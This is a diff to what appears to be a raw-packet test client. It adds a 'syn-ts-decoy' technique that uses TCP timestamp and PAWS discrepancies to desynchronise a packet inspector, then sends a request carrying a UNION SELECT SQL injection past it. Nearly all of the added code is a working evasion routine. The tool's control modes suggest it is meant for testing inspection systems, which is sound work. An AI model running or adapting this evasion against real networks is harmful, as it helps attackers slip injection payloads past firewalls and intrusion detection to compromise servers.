@@ -17,6 +17,10 @@ TECHNIQUE is one of:
              the real rest at the same sequence number
   decoy-paws raw, timestamps on: the same with the decoy's timestamp older
              than the connection's (the receiver's PAWS test discards it)
+  syn-ts-decoy raw, timestamps on: a SYN with a new timestamp, no handshake
+             ACK, then 4,200 harmless bytes with an older timestamp (the
+             receiver's PAWS test against the SYN's discards them; the judge
+             never kept the SYN's), then the request at the same sequence
   ext-headers raw IPv6: the request behind nine destination options headers
   plain      raw: the request with UNION SELECT in one segment (control)
   benign     raw: a request without it (control: the raw client works)
@@ -164,7 +168,30 @@ def tiny(dst, port):
     return 0
 
 
+def syn_ts_decoy(src, dst, port):
+    c = Conn(src, dst, port)
+    tsval = 1000000
+    c.send(c.isn, SYN, options=ts_option(tsval))
+    synack = [s for s in c.receive(1.5) if s[0] & SYN and s[0] & ACK]
+    if not synack:
+        print("no-synack")
+        return 0
+    c.peer = synack[0][1] + 1
+    seq = c.isn + 1
+    old = ts_option(tsval - 100000)
+    pad = b"GET /x?id=1 " + b"a" * 1388
+    for i in range(3):  # past the judge's 4,096-byte window
+        c.send(seq + i * len(pad), ACK | PSH, pad, old)
+        c.receive(0.2)
+    c.send(seq, ACK | PSH, b"GET /x?id=1 " + REST, ts_option(tsval + 10))
+    c.receive(1.0)
+    print(c.acked())
+    return 0
+
+
 def raw(technique, src, dst, port):
+    if technique == "syn-ts-decoy":
+        return syn_ts_decoy(src, dst, port)
     c = Conn(src, dst, port)
     ts = technique == "decoy-paws"
     tsval = 1000000
@@ -229,7 +256,7 @@ def main():
         return oob(dst, port)
     if technique == "tiny":
         return tiny(dst, port)
-    if technique not in ("fin-ahead", "rst-window", "decoy-md5", "decoy-paws", "ext-headers",
+    if technique not in ("fin-ahead", "rst-window", "decoy-md5", "decoy-paws", "syn-ts-decoy", "ext-headers",
                          "plain", "benign", "midstream"):
         print(__doc__, file=sys.stderr)
         return 2
